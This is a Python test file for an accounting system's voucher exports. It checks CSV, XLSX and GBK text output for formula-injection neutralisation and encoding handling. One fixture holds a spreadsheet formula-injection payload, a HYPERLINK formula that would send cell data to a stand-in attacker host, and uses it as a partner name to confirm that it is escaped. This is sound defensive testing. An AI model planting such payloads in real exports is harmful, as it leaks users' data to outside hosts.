"""What the cells of an export may not do: run as a spreadsheet formula (Excel formula
injection through a partner's name or a summary), or stop a GBK file being made."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from accounting_support import World, build_world
from openpyxl import load_workbook
from sqlalchemy import update

from openjxc.addons.accounting_bridge import ledger
from openjxc.addons.accounting_bridge.exports import (
    GENERIC_CSV,
    GENERIC_XLSX,
    KIS_XLSX,
    U8_TXT,
    export_vouchers,
)
from openjxc.addons.accounting_bridge.models import VoucherLine
from openjxc.addons.base_jxc.partners.models import Partner

D = Decimal
MARCH = date(2026, 3, 1)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.fixture
def world(database_url: str) -> World:
    world = build_world(database_url)
    world.run(lambda s: world.receive(s, D(10), D("8.50")))
    world.run(lambda s: world.invoice(s, "receivable", D(2), D("100")))
    with world.uow() as s:
        s.execute(update(Partner).where(Partner.code == "C1").values(name=EVIL))
        s.execute(update(VoucherLine).where(VoucherLine.sequence == 1)
                  .values(summary="=SUM(1+1) 😀 收货"))
    world.run(lambda s: ledger.reverse_voucher(s, 2))  # red: negative amounts
    return world


def export(world: World, fmt: str, **kw: object) -> bytes:
    with world.uow(readonly=True) as s:
        return export_vouchers(s, MARCH, fmt, **kw).content  # type: ignore[arg-type]


def test_the_csv_neutralises_text_that_would_start_a_formula(world: World) -> None:
    rows = list(csv.reader(io.StringIO(export(world, GENERIC_CSV).decode("utf-8-sig"))))
    names = {r[11] for r in rows[1:] if r[9] == "客户"}
    assert names == {"'" + EVIL}
    assert all(r[4].startswith("'=SUM") for r in rows[1:] if "SUM" in r[4])
    # Amounts are numbers: the red voucher's keep their minus sign untouched.
    assert any(r[7] == "-226.00" for r in rows[1:])


@pytest.mark.parametrize("fmt", [KIS_XLSX, GENERIC_XLSX])
def test_excel_cells_that_look_like_formulas_are_text(world: World, fmt: str) -> None:
    sheet = load_workbook(io.BytesIO(export(world, fmt))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "=SUM(1+1) 😀 收货" for c in cells)  # kept as it is


def test_a_character_gbk_lacks_becomes_a_question_mark(world: World) -> None:
    text = export(world, U8_TXT).decode("gbk")
    assert "=SUM(1+1) ? 收货" in text
    assert "😀" in export(world, GENERIC_CSV, encoding="utf-8").decode("utf-8")


def test_a_comma_in_a_code_does_not_cut_a_t3_line(world: World) -> None:
    with world.uow() as s:
        s.execute(update(Partner).where(Partner.code == "C1").values(code="C,1"))
    lines = export(world, U8_TXT).decode("gbk").split("\r\n")[1:-1]
    assert lines and {line.count(",") for line in lines} == {lines[0].count(",")}
    assert any(",C，1," in line for line in lines)


@pytest.mark.parametrize("target", ["10,01", "", "x" * 33, "10\n01"])
def test_a_code_map_refuses_codes_that_would_break_a_file(world: World, target: str) -> None:
    from openjxc.addons.accounting_bridge.exports_batches import ExportRequest, create_batch

    assert world.refusal(lambda s: create_batch(s, ExportRequest(
        U8_TXT, period=MARCH, code_map=(("1122", target),)))) == [("INVALID", ("codeMap",))]


def test_a_t3_file_says_its_encoding(world: World) -> None:
    with world.uow(readonly=True) as s:
        assert export_vouchers(s, MARCH, U8_TXT).content_type == "text/plain; charset=gbk"
        assert export_vouchers(s, MARCH, U8_TXT, encoding="utf-8").content_type == (
            "text/plain; charset=utf-8")
